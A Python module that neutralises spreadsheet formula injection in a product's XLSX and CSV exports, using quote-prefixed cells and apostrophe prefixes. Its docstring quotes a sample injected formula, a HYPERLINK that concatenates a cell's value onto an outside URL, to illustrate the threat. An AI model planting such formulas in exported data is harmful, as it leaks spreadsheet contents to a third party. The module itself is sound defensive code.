"""Spreadsheet (formula) injection guard for every file the product exports: XLSX and CSV.

A text such as ``=HYPERLINK("http://…"&A2,"详情")`` taken from an event title or an imported file
must reach Excel or WPS as that text, never as a live formula (OWASP "CSV Injection").

* A text is *formula-like* when it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
  return, **also after leading whitespace** (spaces, full-width spaces, line breaks): spreadsheet
  programs and import dialogs differ in whether they trim it first, so it is treated as dangerous.
  A text that is only a number (``-5``, ``+3.2``, ``-1.5e3``, ``-12%``) is not: it cannot call anything.
* XLSX (:func:`neutralise_workbook`): formula-like text is stored as a text cell with Excel's
  "quote prefix" flag, so the cell shows exactly the original text and stays text even when someone
  edits it (F2, Enter). Numbers, dates and booleans are left as they are. Nothing is prefixed.
* CSV (:func:`csv_cell`): formula-like text gets a leading apostrophe ``'`` (OWASP); a CSV cell has no
  type, so the apostrophe stays visible, which is the accepted price.

Every exporter calls these: ``reports.excel`` (meeting workbook), ``components.tables`` (each table's
导出Excel) and ``data_access.importers.common.write_rejects`` (the rejects CSV).
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_LEADING_SPACE = " \u3000\u00a0\n\t\r\f\v"
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?%?")


def is_formula_like(value: object) -> bool:
    """True for a ``str`` a spreadsheet could take as a formula (see the module docstring)."""
    if not isinstance(value, str) or not value:
        return False
    if value.startswith(("\t", "\r")):
        return True
    stripped = value.lstrip(_LEADING_SPACE)
    return stripped.startswith(TRIGGERS) and not _NUMBER.fullmatch(stripped)


def csv_cell(value: object) -> object:
    """``value`` for a CSV file: formula-like text prefixed with ``'``, anything else unchanged."""
    return "'" + value if is_formula_like(value) else value


def neutralise_workbook(wb) -> int:
    """Make every formula-like cell of an openpyxl workbook plain text; returns how many were changed.

    Our exporters never write formulas on purpose, so any cell openpyxl took for a formula came from
    the data. Call it right before saving.
    """
    changed = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (cell.data_type in ("s", "inlineStr") and is_formula_like(cell.value)):
                    text = cell.value if isinstance(cell.value, str) else str(cell.value)
                    cell.value = text
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    changed += 1
    return changed
